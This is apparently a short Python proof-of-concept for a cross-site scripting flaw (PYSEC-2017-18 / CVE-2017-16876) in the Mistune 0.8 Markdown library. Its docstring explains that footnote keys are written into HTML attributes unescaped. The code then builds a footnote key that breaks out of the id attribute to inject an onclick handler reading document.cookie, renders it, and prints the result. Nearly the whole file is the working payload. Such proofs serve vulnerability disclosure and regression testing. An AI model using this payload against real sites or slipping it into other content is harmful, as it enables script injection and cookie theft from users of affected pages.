"""PYSEC-2017-18 / CVE-2017-16876: Mistune 0.8 puts a footnote's key into HTML attributes
without escaping its double quote (_keyify), so a footnote key breaks out of the `id` attribute
and adds an event handler: cross-site scripting in rendered Markdown."""

import mistune

key = 'x" onclick="alert(document.cookie)'
document = f"See the note[^{key}].\n\n[^{key}]: a footnote\n"
print(mistune.markdown(document))
